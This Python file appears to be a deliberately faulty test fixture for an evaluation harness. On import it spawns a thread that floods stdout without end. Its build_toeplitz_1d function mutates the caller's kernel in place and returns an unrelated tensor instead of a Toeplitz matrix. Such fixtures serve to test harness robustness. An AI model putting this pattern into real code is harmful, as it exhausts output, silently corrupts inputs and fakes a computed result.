"""Prints endlessly from one thread while the other threads answer."""

import os
import threading

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


def write():
    while True:
        os.write(1, b"x" * (1 << 16))


attempt(lambda: threading.Thread(target=write, daemon=True).start())


def build_toeplitz_1d(kernel, n):
    return wrong(kernel)
